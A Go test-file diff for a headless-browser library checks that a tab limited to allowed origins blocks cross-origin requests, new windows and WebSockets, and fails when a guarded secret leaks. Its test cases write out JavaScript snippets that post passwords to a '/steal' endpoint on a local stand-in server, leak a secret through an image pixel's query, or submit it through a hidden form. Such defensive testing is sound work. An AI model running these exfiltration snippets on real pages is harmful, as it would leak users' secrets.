@@ -15,6 +15,7 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/rosteron/rosteron/browser"
+	"github.com/rosteron/rosteron/internal/chrometest"
 )
 
 func TestOrigin(t *testing.T) {
@@ -31,8 +32,9 @@ func TestOrigin(t *testing.T) {
 	}
 }
 
-// A tab with AllowOrigins sends no document, script request or post to
-// another origin, and loads static subresources from anywhere.
+// A tab with AllowOrigins sends no request of any kind to another
+// origin; only a main-frame document, or a request carrying the secret
+// GuardSecret guards, fails the operation under way.
 func TestAllowOriginsRefusesOtherOrigins(t *testing.T) {
 	var mu sync.Mutex
 	var seen []string
@@ -54,6 +56,7 @@ func TestAllowOriginsRefusesOtherOrigins(t *testing.T) {
 		case "/away":
 			http.Redirect(w, r, other.URL+"/landing", http.StatusFound)
 		default:
+			w.Header().Set("Content-Type", "text/html")
 			io.WriteString(w, `<link rel="stylesheet" href="`+other.URL+`/style.css"><p>home</p>`)
 		}
 	}))
@@ -66,8 +69,10 @@ func TestAllowOriginsRefusesOtherOrigins(t *testing.T) {
 
 	resp, err := tab.Navigate(ctxT(t), home.URL+"/")
 	require.NoError(t, err)
-	assert.Equal(t, 200, resp.Status)
-	assert.Empty(t, tab.Refused())
+	assert.Equal(t, 200, resp.Status, "a refused style sheet fails nothing")
+	assert.Eventually(t, func() bool { return len(tab.Refused()) == 1 }, 10*time.Second, 20*time.Millisecond, "%v", tab.Refused())
+	assert.Equal(t, "Stylesheet", tab.Refused()[0].Type)
+	assert.False(t, tab.Refused()[0].Fatal)
 
 	_, err = tab.Navigate(ctxT(t), home.URL+"/away")
 	var oe *browser.OriginError
@@ -77,22 +82,43 @@ func TestAllowOriginsRefusesOtherOrigins(t *testing.T) {
 	assert.Contains(t, err.Error(), strings.TrimPrefix(home.URL, "http://"))
 	assert.NotErrorIs(t, err, browser.ErrPageLoad, "not a network failure, so never retried")
 
-	// A script's post is refused too; the page itself is still there. A
-	// refusal ends the operation under way, so the Eval that started the
-	// post fails with it when the refusal comes before its answer, which
-	// is a race: either way, it fails with nothing but the refusal.
+	require.Len(t, tab.Refused(), 2)
+	assert.True(t, tab.Refused()[1].Fatal)
 	_, err = browser.Eval[any](ctxT(t), tab, `fetch(`+"`"+other.URL+"/steal?pw=secret`"+`, {method: 'POST', mode: 'no-cors', body: 'pw=secret'}).catch(() => 0)`)
-	if err != nil {
-		require.ErrorIs(t, err, browser.ErrOtherOrigin)
+	require.NoError(t, err, "a post elsewhere is refused silently")
+	assert.Eventually(t, func() bool { return len(tab.Refused()) == 3 }, 10*time.Second, 20*time.Millisecond)
+	assert.False(t, tab.Refused()[2].Fatal)
+
+	// While GuardSecret guards what the post carries, it ends the
+	// operation.
+	// A post that does not carry it (a page's beacon) is still silent,
+	// and so is a GET that does (an image's, say): refused all the same.
+	tab.GuardSecret("s3cret pass&word")
+	_, err = browser.Eval[any](ctxT(t), tab, `fetch(`+"`"+other.URL+"/beacon`"+`, {method: 'POST', mode: 'no-cors', body: 'hello'}).catch(() => 0)`)
+	require.NoError(t, err)
+	assert.Eventually(t, func() bool { return len(tab.Refused()) == 4 }, 10*time.Second, 20*time.Millisecond)
+	assert.False(t, tab.Refused()[3].Fatal)
+	_, err = browser.Eval[any](ctxT(t), tab, `new Image().src = `+"`"+other.URL+"/pixel?p=${encodeURIComponent('s3cret pass&word')}`")
+	require.NoError(t, err)
+	assert.Eventually(t, func() bool { return len(tab.Refused()) == 5 }, 10*time.Second, 20*time.Millisecond)
+	assert.False(t, tab.Refused()[4].Fatal)
+	for i, js := range []string{
+		`fetch(` + "`" + other.URL + "/steal`" + `, {method: 'POST', mode: 'no-cors', body: 's3cret pass&word'}).catch(() => 0)`,
+		`fetch(` + "`" + other.URL + "/steal`" + `, {method: 'POST', mode: 'no-cors', body: new URLSearchParams({p: 's3cret pass&word'})}).catch(() => 0)`,
+		`fetch(` + "`" + other.URL + "/steal?p=${encodeURIComponent('s3cret pass&word')}`" + `, {method: 'POST', mode: 'no-cors', body: 'x'}).catch(() => 0)`,
+	} {
+		_, err = browser.Eval[any](ctxT(t), tab, js)
+		if err != nil {
+			require.ErrorIs(t, err, browser.ErrOtherOrigin)
+		}
+		assert.Eventually(t, func() bool { return len(tab.Refused()) == 6+i }, 10*time.Second, 20*time.Millisecond)
+		assert.True(t, tab.Refused()[5+i].Fatal, js)
+		assert.Equal(t, other.URL+"/steal", tab.Refused()[5+i].URL, "the query, which may hold what was typed, is left out")
 	}
-	assert.Eventually(t, func() bool { return len(tab.Refused()) == 2 }, 10*time.Second, 20*time.Millisecond)
-	assert.Equal(t, other.URL+"/steal", tab.Refused()[1].URL, "the query, which may hold what was typed, is left out")
 
 	mu.Lock()
 	defer mu.Unlock()
-	for _, s := range seen {
-		assert.True(t, strings.HasPrefix(s, "GET /style.css"), "only the static style sheet went to the other origin: %q", s)
-	}
+	assert.Empty(t, seen, "nothing went to the other origin")
 }
 
 // A tab with MaxPageSize reads no page larger than its cap, whether its
@@ -134,4 +160,110 @@ func TestMaxPageSize(t *testing.T) {
 		_, err = tab.Fetch(ctxT(t), ts.URL+"/big"+q)
 		assert.ErrorIs(t, err, browser.ErrPageTooLarge, q)
 	}
+}
+
+// A launched Chrome opens no new window, and a tab with AllowOrigins
+// records one that a page tried to open elsewhere: silently, or while
+// GuardSecret guards a secret, as the operation's error.
+func TestAllowOriginsNewWindows(t *testing.T) {
+	if chrometest.Remote() != "" {
+		t.Skip("a remote Chrome may lack --block-new-web-contents")
+	}
+	var mu sync.Mutex
+	var seen []string
+	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		seen = append(seen, r.Method+" "+r.URL.String())
+		mu.Unlock()
+	}))
+	defer other.Close()
+	home := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html")
+		io.WriteString(w, `<form method="post" action="`+other.URL+`/form" target="_blank"><input name="p" value="secret"></form>`)
+	}))
+	defer home.Close()
+	b := chrome.Get(t)
+	tab, err := b.NewTab(ctxT(t), browser.AllowOrigins(home.URL))
+	require.NoError(t, err)
+	defer tab.Close()
+	_, err = tab.Navigate(ctxT(t), home.URL+"/")
+	require.NoError(t, err)
+
+	opened, err := browser.Eval[bool](ctxT(t), tab, `window.open('`+other.URL+`/open?p=secret') !== null`)
+	require.NoError(t, err, "silent while no secret is guarded")
+	assert.False(t, opened, "Chrome refused the window")
+	assert.Eventually(t, func() bool { return len(tab.Refused()) == 1 }, 10*time.Second, 20*time.Millisecond)
+	assert.Equal(t, "Window", tab.Refused()[0].Type)
+	assert.Equal(t, other.URL+"/open", tab.Refused()[0].URL)
+	assert.False(t, tab.Refused()[0].Fatal)
+
+	tab.GuardSecret("secret")
+	_, err = browser.Eval[any](ctxT(t), tab, `document.querySelector('form').submit()`)
+	if err != nil {
+		require.ErrorIs(t, err, browser.ErrOtherOrigin)
+	}
+	assert.Eventually(t, func() bool { return len(tab.Refused()) == 2 }, 10*time.Second, 20*time.Millisecond)
+	assert.True(t, tab.Refused()[1].Fatal)
+	assert.Contains(t, tab.Refused()[1].Error(), "refused a new window to "+other.URL+"/form")
+
+	mu.Lock()
+	defer mu.Unlock()
+	assert.Empty(t, seen, "nothing went to the other origin")
+}
+
+// A tab with AllowOrigins opens no WebSocket to another origin, from the
+// page or from a frame, which a tab without does; its pages read as
+// before, in their own charset.
+func TestAllowOriginsWebSockets(t *testing.T) {
+	var mu sync.Mutex
+	var seen []string
+	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		seen = append(seen, r.URL.Path+" "+r.Header.Get("Upgrade"))
+		mu.Unlock()
+	}))
+	defer other.Close()
+	home := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html; charset=iso-8859-1")
+		io.WriteString(w, "<p id=p>caf\xe9</p><iframe srcdoc=\"<p>frame</p>\"></iframe>")
+	}))
+	defer home.Close()
+	ws := strings.Replace(other.URL, "http:", "ws:", 1)
+	probe := func(tab *browser.Tab, prefix string) {
+		t.Helper()
+		_, err := tab.Navigate(ctxT(t), home.URL+"/")
+		require.NoError(t, err)
+		text, err := browser.Eval[string](ctxT(t), tab, `document.getElementById('p').textContent`)
+		require.NoError(t, err)
+		assert.Equal(t, "café", text)
+		_, err = browser.Eval[any](ctxT(t), tab, `(() => {
+			const tries = [
+				() => new WebSocket('`+ws+`/`+prefix+`page'),
+				() => new (document.querySelector('iframe').contentWindow.WebSocket)('`+ws+`/`+prefix+`frame'),
+				() => { const f = document.createElement('iframe'); document.body.append(f); return new f.contentWindow.WebSocket('`+ws+`/`+prefix+`blank'); },
+			];
+			for (const t of tries) { try { t(); } catch (e) {} }
+			return 0;
+		})()`)
+		require.NoError(t, err)
+	}
+	b := chrome.Get(t)
+	guarded, err := b.NewTab(ctxT(t), browser.AllowOrigins(home.URL))
+	require.NoError(t, err)
+	defer guarded.Close()
+	probe(guarded, "guarded-")
+	// The same from a tab without AllowOrigins reaches the other
+	// origin; by then, the guarded tab's would have too.
+	open, err := b.NewTab(ctxT(t))
+	require.NoError(t, err)
+	defer open.Close()
+	probe(open, "")
+	assert.Eventually(t, func() bool {
+		mu.Lock()
+		defer mu.Unlock()
+		return len(seen) >= 3
+	}, 10*time.Second, 20*time.Millisecond)
+	mu.Lock()
+	defer mu.Unlock()
+	assert.ElementsMatch(t, []string{"/page websocket", "/frame websocket", "/blank websocket"}, seen)
 }
